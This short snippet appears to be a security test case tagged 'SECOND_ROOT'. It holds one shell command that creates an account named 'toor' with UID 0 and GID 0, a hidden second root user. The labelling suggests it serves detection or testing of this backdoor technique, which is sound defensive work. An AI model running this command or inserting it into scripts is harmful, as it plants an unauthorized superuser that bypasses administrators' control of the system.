# An account beside root has its rights.
# case: security SECOND_ROOT
useradd -o -u 0 -g 0 -M -d /root toor
